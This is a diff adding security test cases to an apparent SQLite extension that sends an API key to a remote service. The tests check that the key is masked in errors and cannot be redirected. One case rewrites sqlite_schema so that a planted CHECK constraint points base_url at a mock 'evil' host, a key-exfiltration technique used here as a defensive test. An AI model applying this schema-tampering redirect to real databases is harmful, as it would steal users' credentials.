@@ -1,4 +1,4 @@
--- Security (issue 5): where the key goes and where it never appears.
+-- Security: where the key goes and where it never appears.
 -- * setter_config is SQLITE_DIRECTONLY: views, triggers, CHECK constraints and DEFAULT clauses
 --   (in this database, an attached one, or a database file opened later) cannot change the
 --   base_url or the key. The "evil" mock on {EVIL_PORT} records what it receives; every case
@@ -605,3 +605,56 @@ SELECT * FROM v;
 -- expect:
 -- Error: unsafe use of virtual table "setter_conversations"
 -- Error: unsafe use of virtual table "setter_conversations"
+
+-- case: a hostile CHECK cannot redirect the key when the user's own INSERT reads a setting with setter_config(name)
+-- requests: 1
+-- evil-requests: 0
+.open {TMP}/hostile3.db
+CREATE TABLE c(a CHECK (1));
+.output /dev/null
+.dbconfig defensive off
+.output
+PRAGMA writable_schema = ON;
+UPDATE sqlite_schema SET sql = 'CREATE TABLE c(a CHECK (setter_config(''base_url'', ''http://127.0.0.1:{EVIL_PORT}'') IS NOT NULL))'
+WHERE name = 'c';
+PRAGMA writable_schema = OFF;
+.open {TMP}/hostile3.db
+SELECT count(*) FROM sqlite_schema;
+.load {EXT}
+INSERT INTO c VALUES (setter_config('timeout_ms'));
+SELECT setter_config('base_url') = 'http://127.0.0.1:{PORT}';
+SELECT count(*) FROM setter_conversations(123, '1234567890');
+-- expect:
+-- 1
+-- Error: setter_config: settings can be changed only by a statement that itself calls setter_config (not from a CHECK constraint, DEFAULT, view or trigger)
+-- 1
+-- 3
+
+-- case: the key given by mistake as another setting's value is not echoed by setter_config's error
+-- requests: 0
+SELECT setter_config('timeout_ms', '{KEY}');
+SELECT setter_config('api_key_file', '{KEY}');
+-- expect-re:
+-- Error: setter_config: timeout_ms must be an integer from 1 to 3600000, not '\*\*\*\*'
+-- Error: setter_config: cannot read api_key_file '\*\*\*\*': .*
+
+-- case: a refused SETTER_TIMEOUT_MS holding the key reads back masked in setter_settings, as it is in the query error
+-- env: SETTER_TIMEOUT_MS={KEY}
+-- requests: 0
+SELECT value FROM setter_settings WHERE name = 'timeout_ms';
+SELECT setter_config('timeout_ms');
+-- expect:
+-- ****
+-- ****
+
+-- case: a view or trigger in a database file cannot read setter_settings or setter_requests (as it cannot read setter_config(name))
+-- requests: 1
+SELECT count(*) FROM setter_conversations(777, 'b');
+CREATE VIEW s AS SELECT name, value FROM setter_settings WHERE name IN ('api_key', 'base_url');
+CREATE VIEW r AS SELECT url FROM setter_requests;
+SELECT * FROM s;
+SELECT * FROM r;
+-- expect-re:
+-- 3
+-- Error: .*unsafe use of virtual table "setter_settings".*
+-- Error: .*unsafe use of virtual table "setter_requests".*
